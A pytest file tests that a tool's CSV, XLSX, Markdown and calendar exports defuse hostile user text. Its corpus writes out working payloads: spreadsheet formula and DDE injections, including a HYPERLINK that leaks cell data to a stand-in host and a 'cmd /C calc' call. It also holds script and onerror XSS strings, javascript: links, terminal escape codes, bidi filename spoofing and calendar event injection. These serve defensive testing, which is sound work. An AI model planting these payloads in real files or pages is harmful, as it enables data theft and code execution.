"""A corpus of hostile texts against every export (issue #18, items 2, 3, 6, 9).

Each test is named for what it attacks and asserts on the bytes of the file:

- spreadsheets never run user text: in CSV a cell from user text that starts
  with ``=``, ``+``, ``-``, ``@`` or a tab gets a leading ``'`` (the text stays
  readable after it); in XLSX user text is always a string cell and only the
  workbook's own totals are formulas;
- Markdown never carries markup from users: raw HTML, entities, link and
  image syntax show as typed; only ``http``/``https`` URLs become links, and
  nothing breaks out of one;
- control characters and bidi overrides never reach Markdown, CSV or XLSX raw:
  they are shown as visible escapes.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from typer.testing import CliRunner

from mlew_tui import store
from mlew_tui.cli import app as cli
from mlew_tui.domain.session import Session
from mlew_tui.export.files import render
from mlew_tui.export.md_text import code, esc, inline, link

# -- the corpus ------------------------------------------------------------------------

#: Text a spreadsheet would run, and what the CSV cell must hold instead.
FORMULAS = {
    "hyperlink_formula": ('=HYPERLINK("http://evil.example/?d="&A1,"Click me")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click me")'),
    "dde_plus_cmd": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "at_sum_dde": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "minus_arithmetic": ("-2+3", "'-2+3"),
    "tab_then_formula": ("\t=1+1", "'\t=1+1"),
    "carriage_return_then_formula": ("\r=3+4", "\u240d=3+4"),  # the CR itself is shown (␍): nothing left to run
}

#: Control characters that attack a terminal or a reader, and how every export shows them.
CONTROLS = {
    "esc_osc_title_and_colour": ("pay\x1b]0;pwned\x07\x1b[31mnow", "pay\u241b]0;pwned\u2407\u241b[31mnow"),
    "right_to_left_override": ("invoice\u202egnp.exe", "invoice{U+202E}gnp.exe"),
    "c1_next_line": ("one\u0085two", "one{U+0085}two"),
    "c1_csi": ("a\u009b31mb", "a{U+009B}31mb"),
    "bidi_isolate": ("x\u2066y\u2069z", "x{U+2066}y{U+2069}z"),
}


def load(path: Path) -> Session:
    return store.load(path)


def in_the_sheets(session: Session, text: str) -> Session:
    """``text`` as the first participant's name, the first case's name and the first item's title."""
    session.participants[0].name = text
    session.cases[0].name = text
    session.items[0].title = text
    return session


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", sorted(FORMULAS))
def test_csv_formula_injection_is_defused(en_sample: Path, attack: str) -> None:
    text, cell = FORMULAS[attack]
    session = in_the_sheets(load(en_sample), text)
    item = session.items[0]
    data = render(session, "csv")
    rows = csv_rows(data)
    header, body = rows[0], rows[1:]
    assert f"{cell} ({item.points})" in header  # an item title in the header too
    case_index = [c.id for c in session.cases].index(session.cases[0].id)
    first_person = body[: len(session.cases)]
    assert [r[0] for r in first_person] == [cell] * len(session.cases)
    assert [r[1] for r in body if r[1] == cell] == [cell] * len(session.participants)
    assert first_person[case_index][1] == cell
    if cell.startswith("'"):
        assert cell[1:] == text  # the same text, readable after the quote
    # the file itself never holds a cell that starts a formula
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not (value.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", value)), value
    assert b"\r=3+4" not in data


def test_csv_numbers_stay_numbers(en_sample: Path) -> None:
    session = in_the_sheets(load(en_sample), "-2+3")
    body = csv_rows(render(session, "csv"))[1:]
    assert all(re.fullmatch(r"\d+(\.\d+)?|", value) for row in body for value in row[2:]), body[:3]


@pytest.mark.parametrize("attack", sorted(CONTROLS))
def test_csv_control_characters_are_made_visible(en_sample: Path, attack: str) -> None:
    text, shown = CONTROLS[attack]
    session = in_the_sheets(load(en_sample), text)
    data = render(session, "csv")
    assert shown.encode() in data
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", data.decode("utf-8-sig"))
    assert csv_rows(data)[1][0] == shown


# -- XLSX ------------------------------------------------------------------------------


def workbook(session: Session):  # noqa: ANN201
    return load_workbook(io.BytesIO(render(session, "xlsx")))


@pytest.mark.parametrize("attack", sorted(FORMULAS))
def test_xlsx_formula_injection_stays_a_string_cell(en_sample: Path, attack: str) -> None:
    text, csv_cell = FORMULAS[attack]
    shown = csv_cell if attack == "carriage_return_then_formula" else text
    session = in_the_sheets(load(en_sample), text)
    wb = workbook(session)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    user_cells = [cell for cell in cells if isinstance(cell.value, str) and shown in cell.value and cell.data_type != "f"]
    # the item title (Items, each person's header), the person (Team header, picks), the case (each person's sheet, Team)
    assert len(user_cells) >= 2 + len(session.participants) + 2 + len(session.participants) + 1
    assert {cell.data_type for cell in user_cells} == {"s"}
    assert {c.data_type for c in cells if c.value == shown or c.value == f"{shown} ({session.items[0].points})"} == {"s"}
    items = wb["Items"]
    assert (items["C2"].value, items["C2"].data_type) == (shown, "s")
    team = wb["Team"]
    assert (team["B1"].value, team["B1"].data_type) == (shown, "s")
    assert (team["A2"].value, team["A2"].data_type) == (shown, "s")
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert formulas, "the workbook's own totals stay formulas"
    for cell in formulas:
        # user text reaches a formula only as a quoted sheet name ('Ann''s sheet'!$H$3): a reference, never code
        bare = re.sub(r"'(?:[^']|'')*'!", "SHEET!", cell.value)
        assert "HYPERLINK" not in bare and "cmd" not in bare and "@" not in bare and "calc" not in bare, cell.value
    people = len(session.participants)
    sum_col = 2 + people
    for row in range(2, 2 + len(session.cases)):
        assert team.cell(row, sum_col).data_type == "f" and team.cell(row, sum_col).value.startswith("=SUM(")
        assert team.cell(row, sum_col + 1).value.startswith("=SUMPRODUCT(")


@pytest.mark.parametrize("attack", sorted(CONTROLS))
def test_xlsx_control_characters_are_made_visible(en_sample: Path, attack: str) -> None:
    text, shown = CONTROLS[attack]
    session = in_the_sheets(load(en_sample), text)
    wb = workbook(session)  # openpyxl refuses raw control characters: the export would crash
    assert (wb["Items"]["C2"].value, wb["Team"]["B1"].value) == (shown, shown)


# -- Markdown --------------------------------------------------------------------------

#: Markup a user might type (or paste), and the exact escaped text the document must hold.
MARKUP = {
    "script_tag": ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "img_onerror": ('<img src=x onerror="alert(1)">', '&lt;img src=x onerror="alert(1)"&gt;'),
    "javascript_url": ("javascript:alert(1)", "javascript:alert(1)"),
    "markdown_link_to_javascript": ("[click](javascript:alert(1))", "\\[click\\](javascript:alert(1))"),
    "markdown_image_beacon": ("![x](https://evil.example/t.png)", "!\\[x\\](https://evil.example/t.png)"),
    "entity_encoded_script": ("&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    "numeric_entity": ("&#60;b&#62;", "&amp;#60;b&amp;#62;"),
    "data_url": ("data:text/html;base64,PHNjcmlwdD4=", "data:text/html;base64,PHNjcmlwdD4="),
    "code_and_emphasis": ("``**bold** _it_ ~~gone~~", "\\`\\`\\*\\*bold\\*\\* \\_it\\_ \\~\\~gone\\~\\~"),
    "table_pipe": ("a | b", "a \\| b"),
    "autolink_breakout": ("https://x.example/><script>alert(1)</script>", "https://x.example/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    "autolink_quote_breakout": ('https://x.example/" onmouseover="alert(1)', 'https://x.example/" onmouseover="alert(1)'),
    "autolink_with_space": ("https://x.example/a b", "https://x.example/a b"),
}


def everywhere(session: Session, text: str) -> Session:
    """``text`` in every kind of user text the Markdown shows."""
    s = session
    s.title = text
    s.product.name = text
    s.product.description = f"{text}\n{text}"
    s.participants[0].name = text
    s.customer.who = text
    s.customer.notes = text
    s.reviews[0].text = text
    s.reviews[0].source = text
    s.groups[0].label = text
    s.posts[0].text = text
    s.items[0].title = text
    for case in s.cases:
        case.source = text
        case.solves = text
    s.cases[0].name = text
    s.refine.product_name = text
    s.refine.situation = text
    s.refine.offer = text
    s.refine.steps[0].text = text
    s.refine.customer_faq[0].q = text
    s.refine.customer_faq[0].a = text
    s.milestones[-1].title = text
    s.milestones[-1].how = text
    s.todos[0].text = text
    s.meetings[0].title = text
    s.next_step.notes = text
    return s


def html_of(markdown: str) -> str:
    """The document as a CommonMark renderer (with GitHub's tables) turns it into HTML."""
    return MarkdownIt("commonmark").enable("table").render(markdown)


def assert_no_markup_from_users(html: str) -> None:
    assert "<script" not in html and "<img" not in html and "<b>" not in html
    assert not re.search(r"<[a-z]+[^>]*\son\w+=", html), "an event handler attribute"
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("https://", "http://")), href
        assert "<" not in href and " " not in href and "script" not in href, href


@pytest.mark.parametrize("attack", sorted(MARKUP))
def test_markdown_user_markup_is_shown_as_text(en_day2_sample: Path, attack: str) -> None:
    text, escaped = MARKUP[attack]
    session = everywhere(load(en_day2_sample), text)
    data = render(session, "md")
    doc = data.decode("utf-8")
    assert f"# {escaped}\n" in doc  # the title
    assert f"| {escaped} |" in doc  # a table cell (the customer card, participants...)
    assert doc.count(escaped) >= 20
    assert_no_markup_from_users(html_of(doc))
    if "<" in text:
        assert text.encode() not in data
    assert not re.search(rb"(?<!\\)\]\(javascript:", data)  # a link needs an unescaped "]("
    assert b"<javascript:" not in data and b"<data:" not in data


def test_markdown_only_http_urls_become_links(en_day2_sample: Path) -> None:
    session = load(en_day2_sample)
    session.reviews[0].source = "https://example.com/a?b=1&c=2"
    session.reviews[1].source = "HTTP://EXAMPLE.COM/UPPER"
    session.reviews[2].source = "javascript:alert(1)"
    session.reviews[3].source = "data:text/html,<b>x</b>"
    session.reviews[4].source = "ftp://example.com/file"
    doc = render(session, "md").decode()
    assert "<https://example.com/a?b=1&c=2>" in doc
    assert "<HTTP://EXAMPLE.COM/UPPER>" in doc
    assert re.search(r"[—·] javascript:alert\(1\)", doc)
    assert "data:text/html,&lt;b&gt;x&lt;/b&gt;" in doc
    assert "ftp://example.com/file" in doc and "<ftp:" not in doc
    html = html_of(doc)
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html
    assert 'href="javascript' not in html and 'href="data' not in html and 'href="ftp' not in html


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://example.com/path_with*stars", "<https://example.com/path_with*stars>"),
        ("https://ja.wikipedia.org/wiki/機械学習", "<https://ja.wikipedia.org/wiki/機械学習>"),
        ("https://x.example/><script>", "https://x.example/&gt;&lt;script&gt;"),
        ('https://x.example/"onclick="x', 'https://x.example/"onclick="x'),
        ("https://x.example/a`b", "https://x.example/a\\`b"),
        ("https://x.example/a|b", "https://x.example/a\\|b"),
        ("https://x.example/\u202egnp", "<https://x.example/{U+202E}gnp>"),  # the override shown, not obeyed
        ("javascript:alert(1)", "javascript:alert(1)"),
        ("JaVaScRiPt:alert(1)", "JaVaScRiPt:alert(1)"),
        ("  https://example.com  ", "<https://example.com>"),
    ],
)
def test_markdown_link_never_breaks_out(url: str, expected: str) -> None:
    assert link(url) == expected


def test_markdown_ids_that_are_not_slugs_are_escaped() -> None:
    assert code("m1") == "`m1`"
    assert code("a`b<i>") == "a\\`b&lt;i&gt;"


@pytest.mark.parametrize("attack", sorted(CONTROLS))
def test_markdown_control_characters_are_made_visible(en_day2_sample: Path, attack: str) -> None:
    text, shown = CONTROLS[attack]
    session = everywhere(load(en_day2_sample), text)
    data = render(session, "md")
    doc = data.decode("utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", doc)
    assert doc.count(esc(shown)) >= 20
    assert f"# {esc(shown)}\n" in doc


def test_markdown_entities_and_ampersands_show_as_typed() -> None:
    assert inline("Smith & York &amp; &#x3C;") == "Smith &amp; York &amp;amp; &amp;#x3C;"
    html = html_of(inline("&lt;script&gt;"))
    assert "&amp;lt;script&amp;gt;" in html  # shown as "&lt;script&gt;", not decoded to a tag


def test_markdown_multiline_text_never_starts_a_block(en_day2_sample: Path) -> None:
    session = load(en_day2_sample)
    session.product.description = "fine\n# heading\n<div>\n> quote\n- item\n```\n    indented"
    session.refine.offer = "offer\n# not a heading"
    doc = render(session, "md").decode()
    html = html_of(doc)
    assert "<div>" not in html and "<pre>" not in html
    assert "fine\\\n\\# heading\\\n&lt;div&gt;\\\n&gt; quote\\\n\\- item\\\n\\`\\`\\`\\\nindented\n" in doc
    assert "\n# not a heading" not in doc


# -- end to end: the CLI writes the defused file -----------------------------------------


def test_cli_export_of_a_hostile_session(en_sample: Path) -> None:
    session = load(en_sample)
    session.participants[0].name = '=HYPERLINK("http://evil.example","x")'
    session.cases[0].source = "javascript:alert(1)"
    session.cases[0].name = "<script>alert(1)</script>\x1b[2J"
    store.save(session, en_sample)
    runner = CliRunner()
    for fmt in ("md", "csv", "xlsx"):
        result = runner.invoke(cli, ["export", str(en_sample), "--format", fmt])
        assert result.exit_code == 0, result.output
    csv_data = en_sample.with_suffix(".csv").read_bytes()
    assert b'\'=HYPERLINK(""http://evil.example"",""x"")' in csv_data
    assert "<script>alert(1)</script>\u241b[2J".encode() in csv_data  # text in a spreadsheet, visible ESC
    md = en_sample.with_suffix(".md").read_bytes()
    assert b"<script>" not in md and b"\x1b" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;\u241b\\[2J".encode() in md
    wb = load_workbook(en_sample.with_suffix(".xlsx"))
    assert (wb["Team"]["B1"].value, wb["Team"]["B1"].data_type) == ('=HYPERLINK("http://evil.example","x")', "s")


@pytest.mark.parametrize("attack", sorted(CONTROLS))
def test_ics_control_characters_are_made_visible(en_day2_sample: Path, attack: str) -> None:
    text, shown = CONTROLS[attack]
    session = load(en_day2_sample)
    session.title = text
    session.milestones[-1].what = text
    session.todos[0].text = text
    session.meetings[0].title = text
    data = render(session, "ics").decode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", data)
    unfolded = data.replace("\r\n ", "")
    value = shown.replace(";", "\\;").replace(",", "\\,")  # RFC 5545 TEXT escapes
    assert f"X-WR-CALNAME:{value}\r\n" in unfolded
    assert f"SUMMARY:{value}\r\n" in unfolded


def test_ics_multiline_title_cannot_inject_an_event(en_day2_sample: Path) -> None:
    session = load(en_day2_sample)
    session.title = "Plan\nBEGIN:VEVENT\nSUMMARY:evil\nEND:VEVENT"
    data = render(session, "ics").decode("utf-8")  # was an AssertionError in icalendar: a traceback
    assert "X-WR-CALNAME:Plan\\nBEGIN:VEVENT\\nSUMMARY:evil\\nEND:VEVENT\r\n" in data.replace("\r\n ", "")
    assert "\r\nSUMMARY:evil" not in data
